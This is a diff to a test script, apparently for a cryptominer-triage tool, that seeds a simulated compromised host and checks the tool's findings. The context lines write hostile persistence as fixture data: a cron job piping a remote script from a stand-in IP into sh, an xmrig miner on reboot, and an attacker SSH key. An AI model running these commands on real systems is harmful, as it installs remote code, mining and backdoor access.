@@ -141,6 +141,8 @@ echo "*/5 * * * * /root/.bashtemp/run.sh >/dev/null 2>&1" >/var/spool/cron/cront
 [ "$IMMUTABLE" = yes ] && chattr +i /var/spool/cron/crontabs/root
 echo "*/10 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh" >/etc/cron.d/sysupdate
 echo "@reboot root /usr/local/bin/xmrig -o stratum+tcp://pool.example.net:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge" >>/etc/crontab
+# A 4 KiB path with an invalid UTF-8 byte in a cron entry.
+printf "* * * * * root /root/.h\377/%s/run\n" "$(head -c 4100 /dev/zero | tr "\\0" a)" >/etc/cron.d/long
 # A trust relationship.
 mkdir -p -m 700 /root/.ssh
 echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKattacker attacker@203.0.113.7" >/root/.ssh/authorized_keys
@@ -237,6 +239,8 @@ finding MW-AF-004 '.file.path == "/root/.bash_history"' "history linked to /dev/
 finding MW-TRIAGE-401 '.file.path == "/tmp/pass.txt"' "password list in /tmp" >/dev/null
 finding MW-TRIAGE-402 '.file.path == "/tmp/scan.txt"' "masscan output in /tmp" >/dev/null
 finding MW-TRIAGE-401 '.file.path == "/tmp/.x/a\nb\\xffc"' "a hostile file name, escaped, JSON intact" >/dev/null
+finding MW-PERSIST-001 '.file.path == "/etc/cron.d/long" and (.minerwatch.triage.line | length) > 4096 and (.minerwatch.triage.line | contains("/root/.h\\xff/aaa"))' \
+	"a 4 KiB path with a 0xff byte, whole and escaped" >/dev/null
 
 # The report for a person: by question, with the timeline.
 hrc=$(jq -r 'select(.human_rc != null) | .human_rc' "$OUT")
